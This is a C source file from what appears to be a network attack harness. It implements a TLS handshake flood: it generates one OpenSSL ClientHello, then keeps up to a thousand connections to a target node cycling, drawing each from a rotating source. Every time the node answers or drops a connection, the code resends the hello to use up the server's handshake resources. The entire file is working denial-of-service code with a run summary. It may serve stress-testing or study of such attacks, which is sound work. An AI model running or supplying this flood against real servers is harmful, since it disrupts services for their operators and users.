/* Handshakes of TLS that are of no use; see hellos.h. */
#include "harness/attack/hellos.h"

#include "harness/attack/connections.h"

#include <errno.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

enum { HELLOS_MAX = 1024, HELLO_MAX = 2048, PAUSE_MS = 1 };

/* What a client says first, as OpenSSL would; the same each time, so that it costs us nothing. */
struct hello {
    unsigned char octets[HELLO_MAX];
    int length;
};

static bool make_hello(struct hello *hello)
{
    SSL_CTX *context = SSL_CTX_new(TLS_client_method());
    SSL *ssl = context ? SSL_new(context) : NULL;
    BIO *input = BIO_new(BIO_s_mem()), *output = BIO_new(BIO_s_mem());
    if (ssl && input && output) {
        SSL_set_bio(ssl, input, output);
        SSL_set_connect_state(ssl);
        SSL_do_handshake(ssl);
        hello->length = BIO_read(output, hello->octets, sizeof(hello->octets));
    }
    SSL_free(ssl);
    SSL_CTX_free(context);
    return hello->length > 0;
}

/* Returns false when the node has answered, or ended it. */
static bool is_waiting(int descriptor)
{
    unsigned char octet;
    return recv(descriptor, &octet, 1, MSG_DONTWAIT) < 0 && errno == EAGAIN;
}

int attack_by_hellos(const struct attack *attack)
{
    static int descriptors[HELLOS_MAX];
    struct hello hello = {.length = 0};
    unsigned long begun = 0, next = 0, answered = 0;
    double start = attack_seconds();
    if (attack->count > HELLOS_MAX || !make_hello(&hello))
        return attack_fail("hellos");
    for (unsigned long i = 0; i < attack->count; i++)
        descriptors[i] = -1;
    while (attack->seconds == 0 || attack_seconds() < start + (double)attack->seconds) {
        for (unsigned long i = 0; i < attack->count; i++) {
            if (descriptors[i] >= 0 && is_waiting(descriptors[i]))
                continue;
            answered += descriptors[i] >= 0;
            if (descriptors[i] >= 0)
                close(descriptors[i]);
            descriptors[i] = attack_connect_from(attack, next++);
            begun += descriptors[i] >= 0 &&
                     send(descriptors[i], hello.octets, (size_t)hello.length, MSG_NOSIGNAL) > 0;
        }
        poll(NULL, 0, PAUSE_MS);
    }
    printf("%lu hellos, %lu of them answered or ended, in %.1f s\n", begun, answered,
        attack_seconds() - start);
    return begun > 0 ? 0 : attack_fail("no connection");
}
